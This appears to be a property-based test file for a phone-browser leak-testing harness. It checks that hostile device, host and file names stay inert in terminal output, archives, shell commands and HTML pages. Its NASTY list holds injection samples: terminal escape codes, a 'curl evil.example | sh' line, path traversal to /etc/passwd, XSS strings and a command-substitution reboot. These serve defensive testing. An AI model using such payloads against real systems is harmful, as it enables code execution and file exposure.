import assert from 'node:assert/strict';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import fc from 'fast-check';
import { parseDocument } from 'htmlparser2';
import { printPlan } from '../harness/cli/print/plan.ts';
import { printVerdicts } from '../harness/cli/print/verdicts.ts';
import { printFault } from '../harness/cli/print-fault.ts';
import { labNotes } from '../harness/cli/show/reporter.ts';
import type { ShownOutcome } from '../harness/cli/show/show.ts';
import { readBench } from '../harness/gather/devices/bench.ts';
import { compareApp, compareIdentity } from '../harness/gather/devices/identity/expect.ts';
import { pageOf, visitOf } from '../harness/gather/tap/sites/pages.ts';
import type { RunRecord } from '../harness/judge/judge.ts';
import { judge } from '../harness/judge/judge.ts';
import { report } from '../harness/judge/words/report.ts';
import { verdictsSchema } from '../harness/judge/verdicts/shape.ts';
import { typed } from '../harness/judge/words/phrases.ts';
import { run } from '../harness/lib/children.ts';
import { openArchive } from '../harness/record/archive.ts';
import type { Exchange } from '../harness/record/exchange.ts';
import { exchangeSchema } from '../harness/record/exchange.ts';
import { aBlock, aPlan, aTrial, anExchange, twelvePairs, valueOf } from './builders.ts';

/** Names as a phone, a server or a file might have them to do harm somewhere. */
const NASTY = [
  '\u001b[2J\u001b]0;owned\u0007',
  '\u009b31m',
  'fine\r\nLEAKS  incognito: nothing → nobody',
  'x\n  do     curl evil.example | sh',
  '\u202egnp.exe',
  'a\u2028b\u2029c',
  '../../../../etc/passwd',
  '/etc/passwd\0.png',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '"; $(reboot); `reboot` \'',
  '-rf',
  '__proto__',
  'constructor',
  'toString',
  '\ud800',
  '',
];
const name = fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', maxLength: 40 }));
/** What a line on a terminal may not have in it, the line's own end aside. */
const UNSAFE = /[\p{C}\p{Zl}\p{Zp}]/u;

describe('hostile names', function () {
  this.timeout(60_000);

  it('say nothing of their own on a terminal, in a verdict or in a plan', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(name, { minLength: 12, maxLength: 12 }), async (more) => {
        const { record, judged } = await aJudgedRun([...NASTY, ...more]);
        const lines = report(judged.verdicts, record.plan, 'results/run');
        const verdicts = shownBy((output) => {
          printVerdicts(judged, record.plan, 'results/run', output);
        });
        assertPlain(verdicts, lines.length);
        const plan = shownBy((output) => {
          printPlan(record.plan, 'results/run', output);
        });
        assertPlain(plan, null);
        // Whose phone it was stands on every verdict, however long a name is.
        for (const line of lines.filter((one) => /^(LEAKS|NOT SEEN|INCONCLUSIVE)/.test(one))) {
          assert.match(line, /REFERENCE HANDSET$/);
        }
        // Each is counted as itself, whatever it means to JavaScript.
        const hosts = new Set(judged.verdicts.verdicts.map(({ host }) => host));
        for (const host of [...NASTY, ...more]) assert.ok(hosts.has(host), JSON.stringify(host));
        const text = JSON.stringify(judged.verdicts);
        assert.deepEqual(verdictsSchema.parse(JSON.parse(text)), JSON.parse(text));
      }),
      { numRuns: 3 },
    );
  });

  it('add no line to a Fault', () => {
    fc.assert(
      fc.property(name, name, (one, other) => {
        const identity = {
          model: one,
          romFamily: other,
          romRegion: one,
          romBuild: other,
          fingerprint: one,
          android: other,
          rooted: false,
          sdk: 29,
        };
        const expected = {
          name: 'phone',
          model: 'm',
          rom: { family: 'f', region: 'r', build: 'b' },
        };
        const app = {
          package: 'p',
          versionName: other,
          versionCode: 1,
          sha256: null,
          signer: null,
        };
        const faults = [compareIdentity(expected, identity), compareApp('phone', 'mint', '1', app)];
        for (const fault of faults.filter((each) => each !== null)) {
          assertPlain(faultShown(fault), 3);
        }
      }),
    );
  });

  it('in devices.json are refused in a line each, or can name a file', () => {
    fc.assert(
      fc.property(name, name, name, (device, browser, field) => {
        const text = JSON.stringify({
          [device]: { handset: 'x', browsers: { [browser]: field }, [field]: 1 },
        });
        try {
          for (const entry of readBench(text, 'devices.json'))
            assert.equal(basename(entry.name), entry.name);
        } catch (error) {
          const shown = faultShown(error);
          assertPlain(shown, null);
          const told = shown.trimEnd().split('\n');
          assert.match(told.at(-1) ?? '', /^ {2}do {5}Mend devices\.json/);
          for (const line of told.slice(1, -2)) assert.doesNotMatch(line, /^ {2}(do|where) {2}/);
        }
      }),
    );
  });

  it('move no cursor in the lab notes', async () => {
    await fc.assert(
      fc.asyncProperty(name, name, name, async (device, arm, reason) => {
        const outcomes: ShownOutcome[] = [
          { kind: 'void', ms: 1, reason },
          { kind: 'fault', ms: 1, reason, advice: `${reason}!` },
          { kind: 'not run', reason },
        ];
        let shown = '';
        const trials = outcomes.map((outcome) => ({
          place: '1/3',
          title: arm,
          begun: Promise.resolve(),
          outcome: Promise.resolve(outcome),
        }));
        const show = { suites: [{ title: device, trials }], claims: Promise.resolve(null) };
        labNotes(show, { write: (text) => (shown += text) }, {}).begin();
        await new Promise(setImmediate);
        assertPlain(shown, 4);
      }),
    );
  });

  it('come back from the record as they went in, and no line is lost by them', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'leaklab-names-'));
    const archive = await openArchive(folder);
    let count = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(name, name), { minLength: 1 }), async (pairs) => {
        const id = `phone-${String((count += 1))}`;
        const trial = await archive.trial(id);
        const lines: Exchange[] = pairs.map(([one, other]) =>
          exchangeSchema.parse({
            host: one,
            url: other,
            sender: one,
            method: other,
            why: one,
            requestHeaders: [[one, other]],
            trailers: [[other, one]],
          }),
        );
        for (const line of lines) await trial.exchange(line);
        await trial.finish(aTrial({ id }), 1);
        const back: Exchange[] = [];
        for await (const line of archive.exchanges(id)) back.push(line);
        assert.deepEqual(back, lines);
      }),
    );
    await rm(folder, { recursive: true });
  });

  it('name no file outside the folder of their trial', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'leaklab-names-'));
    const archive = await openArchive(join(folder, 'run'));
    const trial = await archive.trial('phone-01');
    await fc.assert(
      fc.asyncProperty(name, async (one) => {
        await archive.trial(one).catch(() => null);
        await trial.attach(one, 'content').catch(() => null);
      }),
    );
    assert.deepEqual(await readdir(folder), ['run']);
    assert.deepEqual((await readdir(join(folder, 'run'))).sort(), ['blobs', 'trials']);
    for (const made of await readdir(join(folder, 'run', 'trials')))
      assert.match(made, /^[\w.-]+$/);
    await rm(folder, { recursive: true });
  });

  it('are one word to a shell where a command is given to be repeated', async () => {
    const plain = fc.string({ unit: 'binary' }).filter((text) => !text.includes('\0'));
    const words = fc.sample(fc.oneof(fc.constantFrom(...NASTY), plain), 300);
    const told = words.map((word) => word.replaceAll('\0', '').toWellFormed());
    const { stdout } = await run('sh', ['-c', `printf '%s\\0' ${told.map(typed).join(' ')}`]);
    assert.deepEqual(stdout.toString().split('\0').slice(0, -1), told);
  });

  it('are text in a page of ours', () => {
    fc.assert(
      fc.property(name, (title) => {
        const visit = visitOf('GET', 'https://visited.leaklab.test/page');
        assert.ok(visit);
        const html = pageOf(visit, new Map([['/page', title]])).body.toString();
        const plain = pageOf(visit, new Map([['/page', 'A page']])).body.toString();
        assert.equal(elementsIn(html), elementsIn(plain));
      }),
    );
  });
});

/** A run in which every name that is not ours is one of these; the visited page leaks to hosts of all of them. */
async function aJudgedRun(
  names: readonly string[],
): Promise<{ record: RunRecord; judged: Awaited<ReturnType<typeof judge>> }> {
  const at = (index: number): string => names[index % names.length] ?? '';
  const trials = twelvePairs({ mode: 'normal' }, { mode: 'incognito' }, (trial) => ({
    readings: trial.readings.map((reading, index) => ({ ...reading, caption: at(index) })),
    void: trial.id === 'phone-02' ? [at(1), at(2), at(3)] : [],
    sound: trial.id !== 'phone-02',
  }));
  const record: RunRecord = {
    plan: aPlan({ seed: at(2), blocks: [aBlock({ dropped: [...names] })] }),
    ledgerHead: 'f'.repeat(64),
    codeVersion: '0.1.0',
    devices: [
      {
        device: 'phone',
        browserName: 'mint',
        reference: true,
        stamp: 'REFERENCE HANDSET',
        rom: at(0),
        browser: at(1),
        appVersion: at(3),
        reach: 'content',
      },
    ],
    trials,
    exchanges: (id) => {
      const trial = trials.find((one) => one.id === id);
      if (!trial) return [];
      const leak = valueOf(trial, 'visited page');
      return names.flatMap((host, index) => [
        anExchange({
          host,
          sender: at(index + 1),
          url: `https://x.example/${at(index + 2)}?${at(index + 3)}=${leak}`,
          requestHeaders: [[at(index + 4), leak]],
        }),
        exchangeSchema.parse({ kind: 'unread', host, why: at(index + 5), bytesUp: 10 }),
      ]);
    },
    body: () => null,
  };
  return { record, judged: await judge(record) };
}

function shownBy(print: (output: { write(text: string): unknown }) => void): string {
  let shown = '';
  print({ write: (text) => (shown += text) });
  return shown;
}

function faultShown(error: unknown): string {
  return shownBy((output) => {
    printFault(error, { doing: 'leaklab', output, env: {} });
  });
}

/** Whole lines, so many of them (null: however many), and nothing in them that a terminal would obey. */
function assertPlain(shown: string, lines: number | null): void {
  assert.ok(shown.endsWith('\n'));
  const told = shown.slice(0, -1).split('\n');
  if (lines !== null) assert.equal(told.length, lines, shown);
  for (const line of told) assert.doesNotMatch(line, UNSAFE);
}

/** The elements of a page with their attributes, in order. */
function elementsIn(html: string): string {
  const told: string[] = [];
  const walk = (nodes: ReturnType<typeof parseDocument>['children']): void => {
    for (const node of nodes) {
      if (!('children' in node)) continue;
      if ('attribs' in node) told.push(`${node.name} ${JSON.stringify(node.attribs)}`);
      walk(node.children);
    }
  };
  walk(parseDocument(html).children);
  return told.join('\n');
}
